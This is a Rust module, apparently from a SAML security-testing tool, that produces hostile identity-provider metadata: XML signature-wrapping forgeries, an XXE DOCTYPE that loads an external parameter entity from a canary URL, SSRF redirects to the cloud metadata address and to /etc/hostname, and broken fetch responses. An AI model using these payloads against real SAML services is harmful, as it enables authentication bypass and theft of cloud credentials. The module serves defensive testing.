//! What stands around the document: other documents, a document type, another answer.

use axum::http::StatusCode;
use saml_model::names;
use uuid::Uuid;

use super::super::sig::canary;
use super::super::tree::Tree;
use super::super::{FaultError, Parameters, variant};
use super::{Answer, Document, DocumentInputs, Signer, signed};

/// Where clouds keep the secrets of a machine.
const LINK_LOCAL: &str = "http://169.254.169.254/latest/meta-data/";

/// A file that every machine has.
const FILE: &str = "file:///etc/hostname";

/// What a web server says that knows nothing of metadata.
const GARBAGE: &str = "<html><body><h1>We will be back soon</h1>";

/// The signed document stays whole, and beside it or around it there is a forged one.
pub(super) fn wrapped(
    document: &mut Document,
    parameters: &Parameters,
    inputs: &DocumentInputs<'_>,
) -> Result<(), FaultError> {
    let own = inputs.own.ok_or(FaultError::NotSigned)?;
    let genuine = signed(&document.entity, own, true)?;
    document.list_attacker("signing", inputs)?;
    let id = Uuid::new_v5(&inputs.stranger, b"metadata");
    document.entity.set("ID", &format!("_{id}"));
    document.signer = Signer::Nobody;
    if variant(parameters, "meta-xsw") == "extensions" {
        let extensions = Tree::new("Extensions").around(genuine);
        document.entity.insert(0, extensions);
        return Ok(());
    }
    let entities = Tree::new("EntitiesDescriptor").with("xmlns", names::NS_METADATA);
    let forged = std::mem::replace(&mut document.entity, entities);
    document.entity.insert(0, forged);
    document.entity.insert(1, genuine);
    Ok(())
}

/// Both the document type and an entity of it are to be fetched.
pub(super) fn document_type(
    document: &mut Document,
    parameters: &Parameters,
    inputs: &DocumentInputs<'_>,
) -> Result<(), FaultError> {
    let canary = canary(parameters);
    document.prolog =
        format!("<!DOCTYPE EntityDescriptor SYSTEM \"{canary}\" [<!ENTITY % x SYSTEM \"{canary}\"> %x;]>");
    document.list_attacker("signing", inputs)
}

pub(super) fn elsewhere(
    document: &mut Document,
    parameters: &Parameters,
    _: &DocumentInputs<'_>,
) -> Result<(), FaultError> {
    document.answer = Answer::Redirect(match variant(parameters, "meta-ssrf") {
        "file" => FILE,
        _ => LINK_LOCAL,
    });
    Ok(())
}

pub(super) fn nothing_good(
    document: &mut Document,
    parameters: &Parameters,
    _: &DocumentInputs<'_>,
) -> Result<(), FaultError> {
    document.answer = match variant(parameters, "meta-fetch-failure") {
        "empty" => Answer::Text(""),
        "garbage" => Answer::Text(GARBAGE),
        "timeout" => Answer::Late,
        _ => Answer::Status(StatusCode::INTERNAL_SERVER_ERROR),
    };
    Ok(())
}
